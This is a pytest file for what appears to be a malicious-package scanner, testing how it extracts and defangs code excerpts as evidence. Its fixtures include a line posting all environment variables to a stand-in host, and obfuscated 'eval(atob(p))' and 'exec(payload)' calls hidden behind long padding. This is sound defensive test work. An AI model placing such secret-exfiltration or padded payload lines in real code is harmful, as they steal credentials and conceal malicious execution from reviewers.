from __future__ import annotations

import pytest

from darnel.attribution import Reason
from darnel.excerpts import excerpt, with_excerpts
from darnel.features.package import MemoryPackage
from tests.darnel.builders import evidence

LINES = b"import os\n\n    requests.post('http://a.example.invalid', data=os.environ)\nlast"


@pytest.mark.parametrize(
    ("line", "shown"),
    [
        (1, "import os"),
        (2, ""),
        (3, "requests.post('hxxp://a[.]example[.]invalid', data=os.environ)"),
        (4, "last"),
        (5, ""),
        (10**6, ""),
    ],
)
def test_a_line(line: int, shown: str) -> None:
    assert excerpt(LINES, line) == shown


def test_of_a_long_line_the_place_itself_is_shown() -> None:
    data = b"x=1;\n" + b"a" * 50_000 + b";eval(atob(p));" + b"b" * 50_000
    order = data.index(b"(p));") + 4
    shown = excerpt(data, 2, order)
    assert "eval(atob(p))" in shown
    assert shown.startswith("…")
    assert len(shown) <= 160


def test_an_offset_of_another_line_is_ignored() -> None:
    data = b"a" * 500 + b"\n" + b"b" * 500
    assert set(excerpt(data, 1, 900)) == {"a", "…"}


def test_padding_does_not_push_code_out() -> None:
    data = b"ok = 1;" + b" " * 3000 + b"exec(payload)\n"
    assert "exec(payload)" in excerpt(data, 1, data.index(b"\n"))


def test_excerpts_are_read_from_their_files() -> None:
    manifest = b'{\n "scripts": {\n  "postinstall": "node x.js"\n }\n}\n'
    package = MemoryPackage({"a.py": LINES, "package.json": manifest, "b#c.py": b"odd()\n"})
    reasons = [
        Reason(evidence(file="package.json#postinstall", line=3), 9),
        Reason(evidence(file="a.py", line=1)),
        Reason(evidence(file="", line=None)),
        Reason(evidence(file="gone.py", line=1)),
        Reason(evidence(file="b#c.py", line=1)),
    ]
    shown = [e.excerpt for e in with_excerpts(package, reasons)]
    assert shown == ['"postinstall": "node x.js"', "import os", "", "", "odd()"]
